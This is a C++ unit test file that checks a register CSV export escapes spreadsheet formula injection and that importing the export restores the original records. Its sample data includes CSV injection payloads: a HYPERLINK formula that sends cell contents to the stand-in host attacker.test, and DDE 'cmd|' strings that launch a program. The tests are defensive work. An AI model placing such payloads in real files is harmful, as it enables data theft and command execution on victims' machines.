// Text a section editor writes that a spreadsheet would run as a formula: the register
// export writes it so that it cannot run, and the register import gives back the very
// records that were exported.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "core/register/csv.h"
#include "service/records.h"
#include "service/register_export.h"
#include "service_test_support.h"

namespace planscore::service {
namespace {

constexpr const char* kRegister =
    "records_trainings";  // held_on, title, participants, satisfaction

// As typed into the title of a training session.
const std::vector<std::string> kTitles{
    "=HYPERLINK(\"http://attacker.test/?d=\"&A1,\"點此\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",  // trimmed to "=1+1" as it comes in
    "'=1+1",
    "''-1",
    "'研習",
    "公文=寫作",
};

bool starts_a_formula(const std::string& cell) {
  return !cell.empty() && std::string("=+-@\t\r").find(cell.front()) != std::string::npos;
}

std::string exported_csv(store::Store& store, const core::Plan& plan) {
  std::string bytes;
  RegisterExport(plan, kRegister, {}, ReportFormat::csv).write(store, [&](std::string_view piece) {
    bytes += piece;
    return true;
  });
  return bytes;
}

// Every record's values, in id order.
std::vector<std::vector<core::FieldValue>> records_of(store::Store& store, const core::Plan& plan) {
  store::RecordQuery query;
  query.limit = 1000;
  std::vector<std::vector<core::FieldValue>> records;
  for (auto& stored : store.list_records(*plan.find_register(kRegister), query).records)
    records.push_back(std::move(stored.record.values));
  return records;
}

TEST(CsvFormulas, RegisterExportWritesFormulasAsTextAndImportsBackToTheSameRecords) {
  planscore::testing::TempDatabase db;
  const auto plan = planscore::testing::import_shipped_plan(db.store());
  for (std::size_t i = 0; i < kTitles.size(); ++i) {
    const auto added = add_record(db.store(), plan, system_actor(), kRegister,
                                  {{"held_on", "2015-03-0" + std::to_string(i + 1)},
                                   {"title", kTitles[i]},
                                   {"participants", "5"},
                                   {"satisfaction", "-2.5"}});
    ASSERT_TRUE(added.problems.empty()) << core::to_string(added.problems.front());
  }
  const std::string exported = exported_csv(db.store(), plan);

  const auto read = core::read_csv(exported);
  ASSERT_TRUE(read.problems.empty());
  ASSERT_EQ(read.table.rows.size(), kTitles.size());
  for (const auto& row : read.table.rows) {
    EXPECT_FALSE(starts_a_formula(row[1])) << row[1];
    EXPECT_EQ(row[2], "5");
    EXPECT_EQ(row[3], "-2.5");  // numbers stay numbers
  }
  EXPECT_EQ(read.table.rows[0][1], "'" + kTitles[0]);
  EXPECT_EQ(read.table.rows[4][1], "'=1+1");
  EXPECT_EQ(read.table.rows[5][1], "''=1+1");
  EXPECT_EQ(read.table.rows[7][1], "'研習");
  EXPECT_EQ(read.table.rows[8][1], "公文=寫作");

  planscore::testing::TempDatabase other;
  const auto other_plan = planscore::testing::import_shipped_plan(other.store());
  const auto report = import_csv(other.store(), other_plan, system_actor(), kRegister, exported);
  ASSERT_TRUE(report.ok()) << (report.rows.empty() ? "" : report.rows.front().reason.message);
  EXPECT_EQ(records_of(other.store(), other_plan), records_of(db.store(), plan));
  EXPECT_EQ(std::get<std::string>(records_of(other.store(), other_plan)[0][1]), kTitles[0]);
  EXPECT_EQ(std::get<std::string>(records_of(other.store(), other_plan)[5][1]), "'=1+1");
  EXPECT_EQ(exported_csv(other.store(), other_plan), exported);
}

TEST(CsvFormulas, OnlyTextCellsLoseTheirQuoteOnImport) {
  planscore::testing::TempDatabase db;
  const auto plan = planscore::testing::import_shipped_plan(db.store());
  // A number written with a ' in front is no number: the import says so, not -5.
  const auto refused = import_csv(db.store(), plan, system_actor(), kRegister,
                                  "held_on,title,participants\r\n2015-03-01,'=x,'-5\r\n");
  ASSERT_FALSE(refused.ok());
  ASSERT_EQ(refused.rows.size(), 1u);
  EXPECT_EQ(refused.rows[0].value, "'-5");
  EXPECT_EQ(refused.rows[0].reason.message, "\"'-5\" is not a whole number");
  // A hand-made file's formula is kept as written: only the export's own ' comes off.
  const auto taken = import_csv(db.store(), plan, system_actor(), kRegister,
                                "held_on,title,participants\r\n2015-03-01,=1+1,5\r\n");
  ASSERT_TRUE(taken.ok());
  EXPECT_EQ(std::get<std::string>(records_of(db.store(), plan).at(0)[1]), "=1+1");
}

}  // namespace
}  // namespace planscore::service
